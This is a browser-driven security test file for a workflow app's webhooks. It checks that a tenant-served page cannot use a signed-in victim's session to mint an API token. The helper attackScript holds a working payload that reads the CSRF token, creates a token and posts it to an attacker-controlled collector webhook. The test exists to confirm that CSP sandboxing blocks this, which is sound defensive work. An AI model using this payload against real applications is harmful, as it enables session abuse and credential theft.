// The attack of issue 7, item 1, end to end in Chromium: tenant A serves an HTML page from one of
// its webhooks that loads a script from a second webhook; the script uses the visitor's Keyflow
// session to mint an API token and posts it to a third webhook. Victim B, signed in, opens A's
// link. B's account must gain no token and the collector must receive nothing — on the app's
// own origin (the sandbox CSP holds) and with a separate webhook origin (KEYFLOW_WEBHOOK_URL).
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freePort, HOSTS, launchBrowser, serveTestApp, stopServed, type Browser, type Served } from './browser-support.ts';

const pos = { x: 0, y: 0 };
/** A GET webhook that answers `body` with `contentType` (a respond node in "wait" mode). */
function servingGraph(contentType: string, body: string) {
  return {
    nodes: [
      { id: 'hook', type: 'core.webhook', version: 1, config: { method: 'GET', responseMode: 'wait', timeoutMs: 5000 }, position: pos },
      { id: 'reply', type: 'core.respond', version: 1, config: { status: 200, headers: { 'content-type': contentType }, body }, position: pos },
    ],
    edges: [{ id: 'e', source: 'hook', target: 'reply' }],
  };
}
const collectorGraph = { nodes: [{ id: 'hook', type: 'core.webhook', version: 1, config: { method: 'POST' }, position: pos }], edges: [] };

/** The attacker's script: read the CSRF token from /api/auth/me, mint a token, post it away. */
function attackScript(appOrigin: string, collectorUrl: string): string {
  return [
    '(async function () {',
    `  var app = ${JSON.stringify(appOrigin)};`,
    "  var me = await (await fetch(app + '/api/auth/me', { credentials: 'include' })).json();",
    "  var res = await fetch(app + '/api/tokens', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json', 'x-csrf-token': me.csrfToken }, body: JSON.stringify({ name: 'stolen' }) });",
    '  var minted = await res.json();',
    `  await fetch(${JSON.stringify(collectorUrl)}, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(minted) });`,
    '})();',
  ].join('\n');
}

interface Setup extends Served {
  appOrigin: string;
}

async function start(port: number, env: Record<string, string>): Promise<Setup> {
  return { ...(await serveTestApp(port, env)), appOrigin: env.KEYFLOW_PUBLIC_URL ?? `http://127.0.0.1:${port}` };
}

const stop = stopServed;

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
}, 60_000);
afterAll(async () => {
  await browser?.close();
});

/** Tenant A's three webhooks; returns the link A sends to the victim. */
async function plantAttack(s: Setup) {
  const a = await s.t.signup();
  const create = async (name: string, graph: unknown) => {
    const wf = (await (await s.t.request('POST', '/api/workflows', { token: a.token, body: { name, graph } })).json()) as { id: string };
    expect((await s.t.request('POST', `/api/workflows/${wf.id}/activate`, { token: a.token })).status).toBe(200);
    const [hook] = (await (await s.t.request('GET', `/api/workflows/${wf.id}/webhooks`, { token: a.token })).json()) as { url: string }[];
    return { id: wf.id, url: hook!.url };
  };
  const collector = await create('collector', collectorGraph);
  const script = await create('script', servingGraph('text/javascript', attackScript(s.appOrigin, collector.url)));
  const page = await create('page', servingGraph('text/html; charset=utf-8', `<!doctype html><html><body><h1>Quarterly report</h1><script src="${new URL(script.url).pathname}"></script></body></html>`));
  return { collector, script, link: page.url };
}

/** B signs up in the browser (session cookie set), then opens the link; what the page requested. */
async function victimOpens(appOrigin: string, link: string) {
  const page = await browser.context.newPage();
  try {
    await page.goto(`${appOrigin}/`);
    // The email is made here: crypto.randomUUID needs a secure context, and app.keyflow.test over http is not one.
    const signup = await page.evaluate(async (email) => {
      const res = await fetch('/api/auth/signup', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ email, password: 'correct horse battery' }) });
      return res.status;
    }, `victim-${randomUUID()}@example.test`);
    expect(signup).toBe(201);
    const requested: string[] = [];
    page.on('request', (r) => requested.push(new URL(r.url()).pathname));
    const answer = await page.goto(link, { waitUntil: 'load' });
    // The attack's requests all start from the script; once the network is idle it has run its course.
    await page.waitForLoadState('networkidle');
    const html = answer ? await answer.text() : '';
    // Back on the app (the sandboxed page may fetch nothing), as B: which tokens does B have now?
    page.removeAllListeners('request');
    await page.goto(`${appOrigin}/`);
    const tokens = await page.evaluate(async (origin) => (await (await fetch(`${origin}/api/tokens`, { credentials: 'include' })).json()) as { items: unknown[] }, appOrigin);
    return { status: answer?.status(), html, requested, tokens: tokens.items };
  } finally {
    await page.close();
  }
}

async function collectorRuns(s: Setup, workflowId: string): Promise<number> {
  return (await s.t.db.db.selectFrom('runs').select('id').where('workflow_id', '=', workflowId).execute()).length;
}

describe('a tenant webhook cannot act as Keyflow in the browser', () => {
  it('on the app origin: the page loads, its script never runs, the victim gains no token', async () => {
    const port = await freePort();
    let s: Setup | undefined;
    try {
      s = await start(port, { KEYFLOW_PUBLIC_URL: `http://127.0.0.1:${port}` });
      const attack = await plantAttack(s);
      const seen = await victimOpens(s.appOrigin, attack.link);
      // Not vacuous: A's page was served to B, script tag and all.
      expect(seen.status).toBe(200);
      expect(seen.html).toContain(new URL(attack.script.url).pathname);
      expect(seen.tokens).toEqual([]);
      expect(seen.requested).not.toContain('/api/tokens');
      expect(await collectorRuns(s, attack.collector.id)).toBe(0);
    } finally {
      await stop(s);
    }
  }, 90_000);

  it('with KEYFLOW_WEBHOOK_URL: links point at the webhook origin and the victim gains no token', async () => {
    const port = await freePort();
    let s: Setup | undefined;
    try {
      s = await start(port, { KEYFLOW_PUBLIC_URL: `http://${HOSTS[0]}:${port}`, KEYFLOW_WEBHOOK_URL: `http://${HOSTS[1]}:${port}` });
      const attack = await plantAttack(s);
      expect(new URL(attack.link).host).toBe(`${HOSTS[1]}:${port}`);
      const seen = await victimOpens(s.appOrigin, attack.link);
      expect(seen.status).toBe(200);
      expect(seen.html).toContain(new URL(attack.script.url).pathname);
      expect(seen.tokens).toEqual([]);
      expect(await collectorRuns(s, attack.collector.id)).toBe(0);
    } finally {
      await stop(s);
    }
  }, 90_000);

  it("the app's own pages do not admit /hooks/* as a script source", async () => {
    const port = await freePort();
    let s: Setup | undefined;
    const page = await browser.context.newPage();
    try {
      s = await start(port, {});
      const origin = `http://127.0.0.1:${port}`;
      const attack = await plantAttack({ ...s, appOrigin: origin });
      await page.goto(`${origin}/`);
      // An HTML injection into an app page would add exactly such an element.
      const verdict = await page.evaluate(async (src) => {
        const blocked: string[] = [];
        document.addEventListener('securitypolicyviolation', (e) => blocked.push(new URL(e.blockedURI, location.href).pathname));
        const load = (url: string) =>
          new Promise<string>((resolve) => {
            const el = document.createElement('script');
            el.src = url;
            el.onload = () => resolve('loaded');
            el.onerror = () => resolve('error');
            document.body.append(el);
          });
        const hook = await load(src);
        const asset = await load('/assets/probe.js');
        await new Promise((r) => setTimeout(r, 50));
        return { hook, asset, blocked };
      }, new URL(attack.script.url).pathname);
      expect(verdict.hook).toBe('error');
      expect(verdict.blocked).toContain(new URL(attack.script.url).pathname);
      // The editor's build assets stay allowed (the probe is a 404, but not a CSP refusal).
      expect(verdict.blocked).not.toContain('/assets/probe.js');
      expect(await collectorRuns(s, attack.collector.id)).toBe(0);
    } finally {
      await page.close();
      await stop(s);
    }
  }, 90_000);
});
